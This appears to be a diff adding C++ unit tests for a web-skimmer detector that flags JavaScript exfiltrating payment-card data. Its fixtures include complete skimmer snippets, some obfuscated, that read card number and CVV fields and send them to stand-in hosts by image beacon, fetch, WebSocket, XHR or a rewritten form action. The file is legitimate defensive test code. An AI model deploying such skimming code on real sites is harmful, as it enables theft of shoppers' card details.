@@ -1,0 +1,139 @@
+// Behaviour analysis of JavaScript and HTML (behaviour_js.cc): card fields read and sent away,
+// obfuscated builders of the same, a form's action rewritten, a foreign script host added to a
+// page; the same APIs used as every shop uses them are not a trait.
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <cstdint>
+#include <string>
+#include <vector>
+
+#include "webroot/code_lexer.h"
+
+namespace tq::webroot {
+namespace {
+
+std::vector<CodeTrait> Js(std::string_view src) {
+  LexResult r = LexJs(src, LexLimits());
+  std::vector<CodeTrait> out;
+  AnalyzeJs(r.tokens, "js", false, out);
+  return out;
+}
+
+std::string Base64(std::string_view in) {
+  static const char* a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  std::string out;
+  size_t i = 0;
+  for (; i + 2 < in.size(); i += 3) {
+    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
+    for (int k = 3; k >= 0; --k) out += a[(v >> (6 * k)) & 63];
+  }
+  if (in.size() - i == 1) {
+    uint32_t v = uint8_t(in[i]) << 16;
+    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += "==";
+  } else if (in.size() - i == 2) {
+    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8);
+    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += a[(v >> 6) & 63], out += '=';
+  }
+  return out;
+}
+
+int Strongest(const std::vector<CodeTrait>& t, std::string_view family = "") {
+  int s = 0;
+  for (const CodeTrait& c : t)
+    if (family.empty() || c.family == family) s = std::max(s, c.strength);
+  return s;
+}
+
+TEST(BehaviourJs, CardFieldsSentAwayIsAnExfilTrait) {
+  auto t =
+      Js("document.querySelector('#cc_number').addEventListener('change',function(){"
+         "var d=document.getElementById('cc_number').value+document.getElementById("
+         "'cc_cvv').value;new Image().src='https://stats.example.top/c?d='+btoa(d);});");
+  EXPECT_GE(Strongest(t, "exfil"), 3);
+  EXPECT_EQ(Strongest(Js("var total = price * qty; document.getElementById('sum').innerText ="
+                         " total.toFixed(2);"),
+                      "exfil"),
+            0);
+}
+
+TEST(BehaviourJs, ForeignScriptHostsInHtml) {
+  std::vector<CodeTrait> out;
+  AnalyzeHtml("<html><head><script src=\"https://cdn.evil.example/s.js\"></script></head></html>",
+              "html", out);
+  EXPECT_FALSE(out.empty());
+  std::vector<CodeTrait> none;
+  AnalyzeHtml("<p>no scripts here</p>", "html", none);
+  EXPECT_TRUE(none.empty());
+}
+
+int JsPipeline(std::string_view src, std::string_view family = "") {
+  return Strongest(Normalize(src, CodeKind::kJs).traits, family);
+}
+
+TEST(BehaviourJs, ObfuscatorStringArrayWithRotation) {
+  // obfuscator.io's shape: a string table rotated at start-up and read through a lookup
+  // function; the names in the table still say what the code does.
+  EXPECT_GE(
+      JsPipeline("var _0x4a1f=['getElementById','cc_number','value','Image','src',"
+                 "'https://px.example.top/i.gif?d=','btoa'];(function(_0x2d8f05,_0x4b81bb){var "
+                 "_0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05["
+                 "'shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a1f,0x1b3));var _0x2e3c=function("
+                 "_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4a1f[_0x2d8f05];"
+                 "return _0x4d74cb;};var _0x1=document[_0x2e3c('0x0')](_0x2e3c('0x1'))[_0x2e3c("
+                 "'0x2')];var _0x2=new window[_0x2e3c('0x3')]();_0x2[_0x2e3c('0x4')]=_0x2e3c("
+                 "'0x5')+window[_0x2e3c('0x6')](_0x1);",
+                 "exfil"),
+      4);
+}
+
+TEST(BehaviourJs, AtobEvalAndFromCharCodeBuilders) {
+  std::string inner =
+      "document.querySelector('#payment').addEventListener('submit',function(){var d=new "
+      "FormData(this);d.append('c',document.getElementById('cc_number').value);navigator."
+      "sendBeacon('https://sync.example.com/c',d);});";
+  EXPECT_GE(JsPipeline("this['eval'](this['atob']('" + Base64(inner) + "'));", "exfil"), 4);
+  EXPECT_GE(JsPipeline("var u=String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,"
+                       "97,109,112,108,101,47,103);function send(){var f=document."
+                       "querySelectorAll('input, select');var s='';for(var i=0;i<f.length;i++)"
+                       "{s+=f[i].name+'='+f[i].value+'&';}fetch(u,{method:'POST',body:btoa(s)});}"
+                       "if(location.href.indexOf('checkout')>-1){document.addEventListener("
+                       "'change',send);}",
+                       "exfil"),
+            3);
+}
+
+TEST(BehaviourJs, FakeFormsActionRewriteAndLocalStorageStaging) {
+  EXPECT_GE(JsPipeline("if (location.pathname.indexOf('onestepcheckout') !== -1) {"
+                       " document.querySelector('#pm').insertAdjacentHTML('beforeend', '<input "
+                       "id=\"cn\" name=\"cardnumber\"><input name=\"cvc\">');"
+                       " var ws = new WebSocket('wss://m.example.net/ws'); ws.onopen = function"
+                       " () { ws.send(document.getElementById('cn').value); }; }",
+                       "exfil"),
+            4);
+  EXPECT_GE(JsPipeline("jQuery(function($){ if (/checkout/.test(location.pathname)) {"
+                       " $('form#co-payment-form').attr('action',"
+                       " 'https://pay.example.xyz/collect.php'); } });",
+                       "exfil"),
+            3);
+  EXPECT_GE(JsPipeline("document.addEventListener('input', function (e) { if (/cc_|cvv/i.test("
+                       "e.target.name)) { localStorage.setItem('_s', e.target.value); } });"
+                       " window.addEventListener('beforeunload', function () { var x = new "
+                       "XMLHttpRequest(); x.open('POST', 'https://c.example.org/p');"
+                       " x.send(localStorage.getItem('_s')); });",
+                       "exfil"),
+            3);
+  // A search form pointed at the store's own path, and a card-number formatter with no
+  // channel out, are not exfiltration.
+  EXPECT_LT(
+      JsPipeline("document.getElementById('search').action = '/catalogsearch/result/';", "exfil"),
+      2);
+  EXPECT_EQ(JsPipeline("var cc = document.getElementById('cc_number'); cc.addEventListener("
+                       "'input', function () { cc.value = cc.value.replace(/\\D/g, '')"
+                       ".replace(/(.{4})/g, '$1 ').trim(); });",
+                       "exfil"),
+            0);
+}
+
+}  // namespace
+}  // namespace tq::webroot
